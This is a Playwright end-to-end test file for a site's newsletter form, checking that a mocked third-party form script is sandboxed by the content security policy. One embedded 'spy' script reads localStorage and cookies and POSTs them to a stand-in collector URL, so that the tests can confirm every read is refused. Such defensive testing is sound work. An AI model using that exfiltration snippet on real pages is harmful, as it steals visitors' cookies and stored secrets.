import type { Page } from '@playwright/test';
import { routes } from '#lib/routes.ts';
import { withItsPolicy } from '../support/edited-page.ts';
import { messages } from '../support/interface.ts';
import { hydrated } from '../support/islands.ts';
import { ADDRESS, field, signUpForm, signUpPage, subscribe } from '../support/sign-up.ts';
import { expect, test } from '../support/test.ts';

const SERVICE = 'https://forms.example/v2.js';
const COLLECTOR = 'https://forms.example/collect';
const settings = { region: 'na1', portalId: '1', formId: '2', script: SERVICE };
const SECRET = 'fc-secret';

const escaped = (value: unknown) => JSON.stringify(value).replaceAll('"', '&quot;');

const hostedForm = { page: [0, routes.newsletterForm], title: [0, messages.newsletter.name] };

/** The two pages as they would be built with the service's ids in content/site.yaml. */
const edits: Record<string, [from: string, to: string][]> = {
  [signUpPage]: [
    ['&quot;hostedForm&quot;:[0]', `&quot;hostedForm&quot;:[0,${escaped(hostedForm)}]`],
    ['<form id="sign-up"', `$& data-frames="${routes.newsletterForm}"`],
  ],
  [routes.newsletterForm]: [['<body', `$& data-hosted="${escaped(settings)}" data-third-party="${SERVICE}"`]],
};

/** Serves both. `hasPolicyHeader` is false for a host that sends no policy with the frame's page. */
async function serveEdited(page: Page, { hasPolicyHeader = true } = {}) {
  for (const [edited, pairs] of Object.entries(edits)) {
    await page.route(`**${edited}`, async (route) => {
      const response = await route.fetch();
      let html = await response.text();
      for (const [from, to] of pairs) {
        expect(html).toContain(from);
        html = html.replace(from, to);
      }
      const { 'content-security-policy': policy = '', ...others } = response.headers();
      const headers = hasPolicyHeader ? { ...others, 'content-security-policy': policy } : others;
      await route.fulfill({ response, headers, body: withItsPolicy(html) });
    });
  }
}

test.beforeEach(({ page }) => serveEdited(page));

const answer = (page: Page, body: string) =>
  page.route(SERVICE, (route) => route.fulfill({ contentType: 'text/javascript', body }));

/** Draws a field and a button that names the form. The button submits it: the field gives way to a line of thanks. */
const service = `window.hbspt = { forms: { create({ region, portalId, formId, target, onFormReady, onFormSubmit }) {
  const box = document.querySelector(target);
  box.innerHTML = '<label>Work email <input type="email"></label><p>We write once a month.</p><button type="submit"></button>';
  const button = box.querySelector('button');
  button.textContent = [region, portalId, formId].join(' ');
  button.addEventListener('click', () => {
    onFormSubmit();
    box.innerHTML = '<p>Thanks.</p>';
  });
  onFormReady();
} } };`;

const frameOf = (page: Page) => page.getByTitle(messages.newsletter.name);
const hostedButton = (page: Page) => frameOf(page).contentFrame().getByRole('button', { name: 'na1 1 2' });
const heightOf = async (page: Page) => (await frameOf(page).boundingBox())?.height ?? 0;

test('it replaces our form, is as high as its content, and logs when it is submitted', async ({ page }) => {
  await answer(page, service);
  await page.goto(signUpForm);
  await expect(hostedButton(page)).toBeVisible();
  await expect(subscribe(page)).toBeHidden();
  const content = frameOf(page).contentFrame().locator('html');
  const before = await heightOf(page);
  expect(before).toBeGreaterThan(150);
  expect(await content.evaluate(({ scrollHeight, clientHeight }) => scrollHeight - clientHeight)).toBe(0);

  const logged = page.waitForEvent('console');
  await hostedButton(page).click();
  expect((await logged).text()).toBe('Newsletter form submitted');
  await expect.poll(() => heightOf(page)).toBeLessThan(before);
});

test('our form stays where the service does not answer', async ({ page }) => {
  await page.route(SERVICE, (route) => route.abort());
  const failed = page.waitForEvent('requestfailed');
  await page.goto(signUpForm);
  await failed;
  await field(page).fill(ADDRESS);
  await expect(subscribe(page)).toBeEnabled();
  await expect(frameOf(page)).toBeHidden();
});

test('our form stays once the visitor has typed in it', async ({ page }) => {
  const arrival = Promise.withResolvers<void>();
  await page.route(SERVICE, async (route) => {
    await arrival.promise;
    await route.fulfill({ contentType: 'text/javascript', body: service });
  });
  await page.goto(signUpForm);
  await expect(hydrated(page, 'Newsletter')).toHaveCount(1);
  await field(page).fill(ADDRESS);
  await expect(subscribe(page)).toBeEnabled();
  arrival.resolve();
  await expect(frameOf(page)).toHaveCount(0);
  await expect(field(page)).toHaveValue(ADDRESS);
});

/** Sends what it can read of our origin to an address that the policy allows. */
const spy = `{
  const read = (what) => { try { return what(); } catch { return 'refused'; } };
  const found = [
    () => localStorage.getItem('key'),
    () => document.cookie,
    () => parent.document.title,
    () => top.document.title,
    () => parent.localStorage.getItem('key'),
  ].map(read);
  fetch('${COLLECTOR}', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) });
}`;

/** What the spy sends from a page, where the origin of the site stores a secret. */
async function readBySpy(page: Page, opened: string) {
  await answer(page, spy + service);
  await page.route(COLLECTOR, (route) => route.fulfill({ status: 204 }));
  await page.goto('/privacy');
  await page.evaluate((secret) => localStorage.setItem('key', secret), SECRET);
  const sent = page.waitForRequest(COLLECTOR);
  await page.goto(opened);
  return JSON.parse((await sent).postData() ?? '');
}

for (const hasPolicyHeader of [true, false]) {
  const host = hasPolicyHeader ? 'with our headers' : 'without our headers';

  test(`${host}, the service's script reads neither our storage nor the page around it`, async ({ page }) => {
    await serveEdited(page, { hasPolicyHeader });
    expect(await readBySpy(page, signUpForm)).toEqual(Array(5).fill('refused'));
    await expect(hostedButton(page)).toBeVisible();
    expect(await page.evaluate(() => localStorage.getItem('key'))).toBe(SECRET);
  });
}

test("opened directly, the form's page keeps the service's script out of our storage", async ({ page }) => {
  expect((await readBySpy(page, routes.newsletterForm)).join()).not.toContain(SECRET);
  expect(await page.evaluate(() => origin)).toBe('null');
});

test("opened directly without our headers, the form's page loads no script", async ({ page, browserLog }) => {
  await serveEdited(page, { hasPolicyHeader: false });
  await page.goto(routes.newsletterForm, { waitUntil: 'networkidle' });
  expect(await page.evaluate(() => origin)).not.toBe('null');
  expect(browserLog.foreignRequests).toEqual([]);
});

test.describe('the page around the frame', () => {
  test.use({ triesPolicy: true });

  const addFrame = (page: Page, address: string) =>
    page.evaluate(
      (src) => void document.body.append(Object.assign(document.createElement('iframe'), { src })),
      address,
    );

  test('allows no other script, frames no other site or page and keeps Trusted Types', async ({ page, refused }) => {
    await answer(page, service);
    await page.goto(signUpForm);
    await expect(hostedButton(page)).toBeVisible();
    const error = await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<p></p>')).catch(String);
    expect(error).toMatch(/requires 'Trusted/);
    await page
      .evaluate((src) => {
        document.head.append(Object.assign(document.createElement('script'), { src }));
      }, SERVICE)
      .catch(String);
    await addFrame(page, SERVICE);
    await expect.poll(() => refused.join('\n')).toMatch(/frame-src/);
    await addFrame(page, routes.crawl);
    await expect.poll(() => refused.join('\n')).toMatch(/frame-ancestors/);
    expect(await page.evaluate(() => 'hbspt' in window)).toBe(false);
  });
});
